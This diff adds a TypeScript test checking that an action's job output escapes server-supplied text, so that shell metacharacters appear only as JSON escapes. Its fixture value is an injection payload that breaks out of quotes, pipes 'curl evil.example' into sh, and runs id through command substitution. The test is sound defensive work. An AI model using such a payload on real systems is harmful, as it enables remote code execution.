@@ -175,6 +175,23 @@ describe('pull request links', () => {
   })
 })
 
+describe('the job output', () => {
+  it.concurrent('carries server text that a shell would act on only as JSON escapes', async () => {
+    await withStandIn({}, async (standIn) => {
+      const model = "x' ; curl evil.example | sh ; echo '$(id)`id`"
+      standIn.inject({ method: 'GET', fault: { kind: 'patch', fields: { model } } })
+      const run = await runAction({ inputs: inputsFor(standIn.url) })
+
+      expect(run.exitCode).toBe(0)
+      const raw = run.outputs.job ?? ''
+      expect(raw).not.toMatch(/[$`'!<>&]/)
+      expect((JSON.parse(raw) as { model: string }).model).toBe(model)
+      expect(count(standIn.requests, 'POST')).toBe(1)
+      expect(count(standIn.requests, 'GET')).toBe(1)
+    })
+  })
+})
+
 describe('pathological JSON', () => {
   const deep = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`
   const cases: [string, Fault][] = [
